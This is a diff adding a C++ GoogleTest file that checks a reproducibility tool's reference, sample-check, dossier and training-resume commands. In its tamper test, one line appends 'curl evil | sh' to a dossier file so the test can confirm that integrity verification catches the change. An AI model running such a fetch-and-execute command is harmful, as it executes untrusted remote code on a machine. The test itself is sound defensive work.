@@ -1,0 +1,159 @@
+// The reproducibility record end to end: outputs written by NumPy (and torch
+// when Debian's python3-torch is there), a reference declared first, sample
+// checks that catch each kind of difference, the dossier built, tampered with,
+// verified and replayed, and the training-resume exercise.
+#include <gtest/gtest.h>
+
+#include "support.h"
+
+using nlohmann::json;
+using namespace kdktest;
+
+namespace {
+
+const std::string K = KERNODECK_BIN;
+
+bool haveNumpy() { return run("/usr/bin/python3 -c 'import numpy'").code == 0; }
+
+// Writes outputs with NumPy: scores.npy (10x4 float32), embeddings.npy (10x3 float64, Fortran order), ids.txt.
+void writeOutputs(const std::string& dir, const std::string& tweak) {
+  std::string py =
+      "import numpy as np, sys\n"
+      "d = sys.argv[1]; tweak = sys.argv[2]\n"
+      "rng = np.random.default_rng(7)\n"
+      "s = rng.standard_normal((10, 4)).astype(np.float32)\n"
+      "e = np.asfortranarray(rng.standard_normal((10, 3)))\n"
+      "ids = ['doc%02d' % i for i in range(10)]\n"
+      "if tweak == 'perturb': s[6, 2] += 0.01\n"
+      "if tweak == 'nan': e[3, 1] = np.nan\n"
+      "if tweak == 'shape': s = s[:, :3]\n"
+      "if tweak == 'shuffle': ids[2], ids[5] = ids[5], ids[2]\n"
+      "np.save(d + '/scores.npy', s); np.save(d + '/embeddings.npy', e)\n"
+      "open(d + '/ids.txt', 'w').write('\\n'.join(ids) + '\\n')\n";
+  writeFile(dir + ".py", py);
+  run("mkdir -p " + dir + " && /usr/bin/python3 " + dir + ".py " + dir + " " + tweak);
+}
+
+}  // namespace
+
+TEST(Record, ReferenceSampleChecksDossierAndReplay) {
+  if (!haveNumpy()) GTEST_SKIP() << "python3-numpy is not installed";
+  std::string base = tempDir("record");
+  writeOutputs(base + "/expected", "none");
+  writeOutputs(base + "/same", "none");
+  run("mkdir -p " + base + "/corpus && echo 'text' > " + base + "/corpus/a.txt");
+  writeFile(base + "/config.yaml", "lr: 0.001\nseed: 7\n");
+  RunResult init = run("cd " + base + " && " + K + " reference init --json --expected " + base + "/expected --ids ids.txt" +
+                       " --criterion 'abs<=1e-4' --why 'float32 scores; 1e-4 is below the ranking resolution'" +
+                       " --data corpus=" + base + "/corpus,provenance=hf://org/corpus --config " + base + "/config.yaml" +
+                       " --param epochs=3 --entry-point 'python score.py' --host-root /nonexistent -o " + base + "/reference.json");
+  ASSERT_EQ(init.code, 0) << init.err << init.out;
+  json initReport = json::parse(init.out);
+  EXPECT_EQ(countFindings(initReport, "reference.mutable_name"), 1);  // a hub name with no revision
+  json ref = json::parse(readFile(base + "/reference.json"));
+  EXPECT_EQ(ref["schema"], "kernodeck.reference/v1");
+  EXPECT_EQ(ref["result"]["criterion"]["kind"], "abs");
+  EXPECT_EQ(ref["data"][0]["kind"], "directory");
+  EXPECT_EQ(ref["result"]["format"]["count"], 3);
+  // Declaring expected outputs without a criterion is refused.
+  EXPECT_EQ(run(K + " reference init --expected " + base + "/expected -o " + base + "/x.json").code, 3);
+
+  auto check = [&](const std::string& dir, int* code) {
+    RunResult r = run(K + " sample check --json " + dir + " --reference " + base + "/reference.json");
+    if (code) *code = r.code;
+    return json::parse(r.out, nullptr, false);
+  };
+  int code = -1;
+  json same = check(base + "/same", &code);
+  EXPECT_EQ(code, 0) << same.dump(1);
+  for (const char* s : {"load", "count", "format", "finite", "ids", "compare"}) EXPECT_EQ(stepStatus(same, s), "passed") << s;
+  struct Case { const char* tweak; const char* failedStep; const char* code; } cases[] = {
+      {"perturb", "compare", "sample.mismatch"}, {"nan", "finite", "sample.nonfinite"},
+      {"shape", "format", "sample.shape"},        {"shuffle", "ids", "sample.ids"},
+  };
+  for (const auto& c : cases) {
+    std::string dir = base + "/" + c.tweak;
+    writeOutputs(dir, c.tweak);
+    json r = check(dir, &code);
+    EXPECT_EQ(code, 3) << c.tweak;
+    EXPECT_EQ(stepStatus(r, c.failedStep), "failed") << c.tweak << r.dump(1);
+    EXPECT_EQ(countFindings(r, c.code), 1) << c.tweak;
+    if (std::string(c.tweak) == "perturb") {
+      EXPECT_NE(r["first_error"].get<std::string>().find("abs<="), std::string::npos);
+      EXPECT_EQ(r["comparison"][1]["worst"][0]["id"], "doc06");  // the worst offender, named
+    }
+    if (std::string(c.tweak) == "nan") {
+      EXPECT_EQ(stepStatus(r, "compare"), "not_reached");
+    }
+  }
+
+  // reference verify: unchanged, then a config change is named as such.
+  EXPECT_EQ(run(K + " reference verify --reference " + base + "/reference.json").code, 0);
+
+  // Dossier: built, verified, tampered with, replayed.
+  RunResult sc = run(K + " sample check --json -o " + base + "/check.json " + base + "/same --reference " + base + "/reference.json");
+  ASSERT_EQ(sc.code, 0);
+  RunResult b = run(K + " dossier build " + base + "/dossier --reference " + base + "/reference.json --report " + base +
+                    "/check.json --outputs " + base + "/same");
+  ASSERT_EQ(b.code, 0) << b.err << b.out;
+  for (const char* f : {"procedure.md", "procedure.json", "index.html", "reference.json", "MANIFEST.sha256", "inventory.json",
+                        "config/config.yaml", "data-references.json"})
+    EXPECT_FALSE(readFile(base + "/dossier/" + f).empty()) << f;
+  EXPECT_NE(readFile(base + "/dossier/index.html").find("<table>"), std::string::npos);
+  EXPECT_EQ(run(K + " dossier verify " + base + "/dossier").code, 0);
+  RunResult replay = run(K + " dossier replay --json " + base + "/dossier");
+  EXPECT_EQ(replay.code, 0) << replay.out;
+  json rj = json::parse(replay.out);
+  EXPECT_EQ(countFindings(rj, "replay.matches"), 2);
+  // The outputs change: the replay says the result layer differs.
+  writeOutputs(base + "/same", "perturb");
+  json rd = json::parse(run(K + " dossier replay --json " + base + "/dossier").out);
+  EXPECT_EQ(countFindings(rd, "replay.differs"), 1);
+  EXPECT_NE(rd.dump().find("the result layer differs"), std::string::npos);
+  // Tampering with the folder is caught.
+  writeFile(base + "/dossier/procedure.md", readFile(base + "/dossier/procedure.md") + "\nrun curl evil | sh\n");
+  json vt = json::parse(run(K + " dossier verify --json " + base + "/dossier").out);
+  EXPECT_EQ(countFindings(vt, "dossier.modified"), 1);
+  EXPECT_EQ(run(K + " dossier replay " + base + "/dossier").code, 3);
+
+  // A config change, and diff between the two references.
+  writeFile(base + "/config.yaml", "lr: 0.01\nseed: 7\n");
+  json vr = json::parse(run(K + " reference verify --json --reference " + base + "/reference.json").out);
+  EXPECT_EQ(countFindings(vr, "reference.changed.config"), 1);
+  ASSERT_EQ(run("cd " + base + " && " + K + " reference init --config " + base + "/config.yaml --host-root /nonexistent -o " +
+                base + "/reference2.json").code, 0);
+  json diff = json::parse(run(K + " diff --json " + base + "/reference.json " + base + "/reference2.json").out);
+  EXPECT_EQ(countFindings(diff, "diff.input.changed"), 1);
+}
+
+TEST(Record, PtOutputsAndResume) {
+  RunResult torchPy = run("/usr/bin/python3 -c 'import torch'");
+  std::string base = tempDir("resume");
+  RunResult r = run(K + " resume check --json");
+  json j = json::parse(r.out, nullptr, false);
+  ASSERT_TRUE(j.is_object());
+  if (j["first_error"].is_string() && j["first_error"].get<std::string>().find("LibTorch") != std::string::npos)
+    GTEST_SKIP() << "built without LibTorch";
+  EXPECT_EQ(r.code, 0) << r.out;
+  EXPECT_EQ(j["resume"]["max_loss_diff"], 0.0);
+  ASSERT_EQ(j["ablation"].size(), 3u);
+  for (const auto& row : j["ablation"]) EXPECT_GT(row["max_loss_diff"].get<double>(), 0.0) << row.dump();  // each piece matters
+  if (torchPy.code != 0) GTEST_SKIP() << "python3-torch is not installed: .pt interop not checked";
+  // A checkpoint as PyTorch users write it: model and optimizer, no RNG state, no scheduler.
+  run("/usr/bin/python3 -c \"import torch; m = torch.nn.Linear(2, 1); o = torch.optim.SGD(m.parameters(), lr=0.1, momentum=0.9); "
+      "torch.save({'model': m.state_dict(), 'optimizer': o.state_dict(), 'epoch': 3}, '" + base + "/ckpt.pt'); "
+      "torch.save(torch.arange(6, dtype=torch.float32).reshape(2, 3), '" + base + "/out/t.pt')\" 2>&1 || "
+      "(mkdir -p " + base + "/out && /usr/bin/python3 -c \"import torch; m = torch.nn.Linear(2, 1); o = torch.optim.SGD(m.parameters(), lr=0.1, momentum=0.9); "
+      "torch.save({'model': m.state_dict(), 'optimizer': o.state_dict(), 'epoch': 3}, '" + base + "/ckpt.pt'); "
+      "torch.save(torch.arange(6, dtype=torch.float32).reshape(2, 3), '" + base + "/out/t.pt')\")");
+  json inspect = json::parse(run(K + " resume inspect --json " + base + "/ckpt.pt").out, nullptr, false);
+  ASSERT_TRUE(inspect.is_object());
+  EXPECT_EQ(stepStatus(inspect, "read"), "passed") << inspect.dump(1);
+  EXPECT_EQ(countFindings(inspect, "resume.checkpoint.missing"), 2) << inspect.dump(1);  // RNG state and scheduler
+  // .pt outputs are reloaded through LibTorch.
+  run("mkdir -p " + base + "/exp && cp " + base + "/out/t.pt " + base + "/exp/t.pt");
+  ASSERT_EQ(run(K + " reference init --expected " + base + "/exp --criterion exact --why 'bitwise on CPU' --host-root /nonexistent -o " + base +
+                "/ref.json").code, 0);
+  RunResult c = run(K + " sample check --json " + base + "/out --reference " + base + "/ref.json");
+  EXPECT_EQ(c.code, 0) << c.out;
+}
